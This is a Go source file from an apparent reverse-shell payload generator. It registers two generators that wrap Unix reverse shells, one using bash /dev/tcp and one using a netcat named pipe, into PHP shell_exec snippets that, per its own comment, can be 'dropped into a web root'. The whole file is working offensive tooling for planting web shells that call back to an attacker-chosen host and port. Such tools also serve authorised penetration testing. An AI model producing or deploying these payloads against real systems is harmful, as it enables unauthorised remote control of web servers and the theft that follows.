// Package unix wraps the Unix command payloads in PHP so they can be dropped
// into a web root.
package unix

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"

	"github.com/josephlewis42/revshell/core/payload"
	cmdunix "github.com/josephlewis42/revshell/payloads/cmd/unix"
)

// Namespace is where the package's generators are registered.
const Namespace = "payloads/php/cmd/unix"

func init() {
	payload.Register(Namespace, ReverseBash)
	payload.Register(Namespace, ReverseNetcatMkfifo)
}

// ReverseBash runs cmd/unix/reverse_bash through shell_exec.
var ReverseBash = payload.Compose(&payload.Generator{
	Name: "reverse_bash",
	Doc:  "Runs a bash /dev/tcp reverse shell through PHP's shell_exec",
	Params: payload.Signature{
		payload.Positional("lhost"),
		payload.Positional("lport"),
		payload.Option("bash_path", payload.StringValue("/bin/bash")),
		payload.Option("pre", payload.IntValue(1)),
	},
	Render: func(lhost string, lport int, opts *payload.OptionSet) (string, error) {
		return shellExec(cmdunix.ReverseBash, lhost, lport, opts)
	},
}, cmdunix.ReverseBash)

// ReverseNetcatMkfifo runs cmd/unix/reverse_netcat_mkfifo through shell_exec.
var ReverseNetcatMkfifo = payload.Compose(&payload.Generator{
	Name: "reverse_netcat_mkfifo",
	Doc:  "Runs a netcat named pipe reverse shell through PHP's shell_exec",
	Params: payload.Signature{
		payload.Positional("lhost"),
		payload.Positional("lport"),
		payload.Option("pre", payload.IntValue(1)),
	},
	Render: func(lhost string, lport int, opts *payload.OptionSet) (string, error) {
		return shellExec(cmdunix.ReverseNetcatMkfifo, lhost, lport, opts)
	},
}, cmdunix.ReverseNetcatMkfifo)

// phpString renders s as a double quoted PHP string literal.
func phpString(s string) (string, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(s); err != nil {
		return "", err
	}
	quoted := strings.TrimSuffix(buf.String(), "\n")
	return strings.ReplaceAll(quoted, "$", `\$`), nil
}

func shellExec(delegate *payload.Generator, lhost string, lport int, opts *payload.OptionSet) (string, error) {
	command, err := delegate.Forward(lhost, lport, opts)
	if err != nil {
		return "", err
	}

	literal, err := phpString(command)
	if err != nil {
		return "", fmt.Errorf("escaping command: %w", err)
	}

	out := fmt.Sprintf("<?= shell_exec(%s) ?>", literal)
	if opts.Truthy("pre") {
		out = "<pre>" + out + "</pre>"
	}
	return out, nil
}
